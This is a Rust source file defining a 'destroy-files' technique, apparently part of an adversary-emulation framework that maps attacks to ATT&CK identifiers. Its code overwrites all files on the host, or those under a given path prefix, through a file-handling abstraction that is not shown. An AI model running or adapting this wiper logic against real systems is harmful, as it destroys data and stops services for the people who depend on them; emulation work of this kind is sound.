//! Destroys files of the host it runs on.

use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::Input;

/// Technique `destroy-files`.
#[derive(Debug)]
pub(super) struct DestroyFiles;

static ENTRY: Entry = Entry {
    id: "destroy-files",
    title: "Destroy files",
    summary: "Overwrites files of the host it runs on so that nothing is left of them: all, or those whose path begins as given. What needs one of \
              them stops. Nothing of it is seen on the network.",
    parameters: &[Parameter {
        name: "below",
        kind: ParameterKind::Text,
        required: false,
        doc: "beginning of the paths; all files if not given",
    }],
    references: &["T1485", "T0828"],
};

impl Technique for DestroyFiles {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["destroy", "destroyed"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let Input::Begin = input else {
            return Progress::Wait;
        };
        let below = step.params.text("below");
        let files = step.hands.files().into_iter().map(|f| f.path);
        let paths: Vec<String> = files.filter(|p| p.starts_with(below)).collect();
        let gone = paths.iter().filter(|p| step.hands.destroy_file(p)).count();
        if gone == 0 {
            Progress::Failed("no such files")
        } else {
            Progress::Done("files gone")
        }
    }
}
